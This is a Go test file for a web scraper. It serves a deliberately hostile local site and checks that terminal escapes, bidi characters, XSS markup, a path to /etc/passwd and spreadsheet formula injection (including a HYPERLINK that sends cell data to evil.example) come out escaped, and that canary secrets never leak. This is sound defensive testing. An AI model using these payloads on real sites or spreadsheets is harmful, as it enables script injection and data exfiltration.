package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ebbworker/ebb/worker/store"
)

// evil is what a page may say of itself: escapes of terminals (ESC, C1), characters that turn text or
// end lines, markup, a path, a line of a log. It stands in JSON and in attributes as it is.
const evil = "\x1b[2J\u009b31m\u202e\u2066\u2028</title><script>alert(1)</script><img src=x onerror=alert(1)>&quot; ../../../../etc/passwd level=error"

// evilPages are a hostile site: texts, formulas, names, an error, JSON that never ends.
func evilPages() http.Handler {
	mux := http.NewServeMux()
	page := func(path, text string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, strings.ReplaceAll(text, "EVIL", evil))
		})
	}
	escaped := strings.NewReplacer("<", `\x3c`, "\u2028", `\u2028`, "\x1b", `\x1b`).Replace(evil)
	page("/{$}", `<title>EVIL</title><script>document.title = "`+escaped+`"</script>
		<form method=post action=/in><input id=word name=word></form>
		<h1></h1><script>document.querySelector("h1").textContent = "`+escaped+`"</script>
		<p class=formula>=HYPERLINK("http://evil.example/?"&A1)</p><p class=number>-12.5</p><p class=at>@SUM(1)</p><p class=tab>-1+1|cmd</p>
		<a href="/fails">1</a><a href="/deep">2</a>`)
	page("/fails", `<title>EVIL</title><script>function check() { throw new Error("`+escaped+`".repeat(100)) }</script>`)
	page("/deep", `<title>deep</title><script type="application/json" id=state>`+strings.Repeat(`{"a":[`, 50_000)+strings.Repeat(`]}`, 50_000)+`</script>`)
	return mux
}

const evilSite = `name: evil
start: %s/
robots: ignore
limits: {rate: none, retries: 0}
templates:
- name: fails
  match: ["/fails"]
  steps: [{evaluate: "check()"}]
- name: deep
  match: ["/deep"]
  items: [{name: state, fields: {state: {json: "script#state", type: json, required: true}}}]
- name: front
  match: ["/"]
  links: [a]
  steps:
  - type: {into: "#word", text: "${EVIL_WORD}"}
  items:
  - name: thing
    key: [title]
    fields: {title: h1, formula: .formula, number: {css: .number, type: number}, at: .at, minus: .tab}
`

// raw are the characters and the markup that must come out nowhere.
var raw = []string{"\x1b", "\u009b", "\u202e", "\u2066", "\u2028"}

func requireNothingRaw(t *testing.T, name, text string) {
	t.Helper()
	for _, character := range raw {
		require.NotContains(t, text, character, "%s: %q", name, text)
	}
}

// TestNothingOfAPageComesOutRaw leads a hostile page through the product: its texts act nowhere, and
// no secret is written anywhere.
func TestNothingOfAPageComesOutRaw(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(evilPages())
	t.Cleanup(server.Close)
	w := newWorld(t)
	w.removeSites()
	w.writeSite("evil.yaml", fmt.Sprintf(evilSite, server.URL))
	secrets := map[string]string{
		"EVIL_WORD": "canary-of-a-step-1", "EBB_WEB_TOKEN": "canary-of-the-token-2", "EBB_ALARMS_WEBHOOK": "https://user:canary-3@hooks.example/canary-4?key=canary-5",
	}
	for name, value := range secrets {
		w.env = append(w.env, name+"="+value)
	}
	w.env = append(w.env, "EBB_WEB_LISTEN=127.0.0.1:0", "EBB_MEMORY_RECORDINGS="+filepath.Join(w.home, "recordings"))

	said := map[string]string{}
	run := func(code int, args ...string) string {
		t.Helper()
		p := w.ebb(args...)
		require.Equal(t, code, p.wait(), "ebb %s: %s", p.args, p.said())
		said[p.args] = p.stdout.String() + p.said()
		return p.stdout.String()
	}
	run(exitFailed, "run", "--once", "--profile=cheap")
	console := w.ebb("run", "--once", "--profile=off", "--log-format=console")
	console.wait()
	said["the log for people"] = console.said()

	s := w.open()
	first := w.runs(s, store.RunFilter{})[0]
	require.Equal(t, store.PageCounts{Done: 1, Failed: 2}, first.Pages, "of the hostile pages one throws, and one nests its JSON too deep: %s", first.Error)
	number := fmt.Sprint(first.ID)
	for _, args := range [][]string{
		{"runs", "list"},
		{"runs", "list", "--json"},
		{"runs", "show", number},
		{"runs", "show", number, "--json"},
		{"jobs", "list"},
		{"jobs", "list", "--json"},
		{"export"},
		{"export", "--format", "table"},
		{"config", "print"},
		{"config", "print", "--origin"},
		{"config", "check"},
		{"sites", "try", server.URL, "--css", "h1"},
		{"sites", "try", server.URL, "--css", "h1", "--format", "jsonl"},
		{"sites", "try", "evil", server.URL + "/"},
		{"scrape", server.URL + "/fails"},
	} {
		p := w.ebb(args...)
		p.wait()
		said[p.args] = p.stdout.String() + p.said()
	}
	recordings, err := filepath.Glob(filepath.Join(w.home, "recordings", "*.ebb.jsonl"))
	require.NoError(t, err)
	require.NotEmpty(t, recordings)
	for _, form := range [][]string{nil, {"--json", "-"}, {"--html", "-"}} {
		run(0, append([]string{"report", recordings[0]}, form...)...)
	}
	for name, text := range said {
		requireNothingRaw(t, name, text)
		if strings.Contains(name, "--html") {
			require.NotContains(t, text, "<script")
			require.NotContains(t, text, "<img")
		}
	}
	w.requireFormulas(run(0, "export", "--format", "csv"))
	w.requireNoSecrets(said, secrets)
	w.requireNothingLeft()
}

// requireFormulas holds that no text of the items is a formula, and that numbers are numbers.
func (w *world) requireFormulas(text string) {
	w.t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(w.t, err)
	require.Len(w.t, rows, 2)
	cells := map[string]string{}
	for i, title := range rows[0] {
		cells[title] = rows[1][i]
	}
	require.Equal(w.t, `'=HYPERLINK("http://evil.example/?"&A1)`, cells["formula"])
	require.Equal(w.t, "'@SUM(1)", cells["at"])
	require.Equal(w.t, "'-1+1|cmd", cells["minus"])
	require.Equal(w.t, "-12.5", cells["number"])
}

// requireNoSecrets looks for secrets in all that was said, and in every file that was written.
func (w *world) requireNoSecrets(said, secrets map[string]string) {
	w.t.Helper()
	const canary = "canary-"
	for name, text := range said {
		require.NotContains(w.t, text, canary, name)
	}
	files := 0
	for _, folder := range []string{w.home, w.temp} {
		require.NoError(w.t, filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
			require.NoError(w.t, err)
			require.NotContains(w.t, path, "passwd")
			if !entry.Type().IsRegular() {
				return nil
			}
			data, err := os.ReadFile(path)
			require.NoError(w.t, err)
			require.False(w.t, bytes.Contains(data, []byte(canary)), "%s holds a secret", path)
			files++
			return nil
		}))
	}
	require.Greater(w.t, files, 2, "of %d secrets in database and recordings", len(secrets))
}

// A password of the database, and secrets that are wrong, are in no error.
func TestNoErrorNamesASecret(t *testing.T) {
	a := map[string]string{
		"EBB_DATABASE": "postgres://u:canary-1@127.0.0.1:1/x?password=canary-2", "EBB_WEB_TOKEN": "canary-short",
		"EBB_ALARMS_WEBHOOK": "ftp://canary-3/canary-4",
	}
	for _, args := range [][]string{{"config", "print"}, {"config", "check"}, {"runs", "list"}} {
		for _, drop := range []string{"", "EBB_WEB_TOKEN EBB_ALARMS_WEBHOOK"} {
			env := map[string]string{}
			for name, value := range a {
				if !strings.Contains(drop, name) {
					env[name] = value
				}
			}
			app, stdout, stderr := newTestApp(env)
			root := newRootCommand(app)
			root.SetArgs(args)
			app.exit(root.ExecuteContext(t.Context()))
			require.NotContains(t, stdout.String()+stderr.String(), "canary", args)
			require.NotEmpty(t, stdout.String()+stderr.String())
		}
	}
}
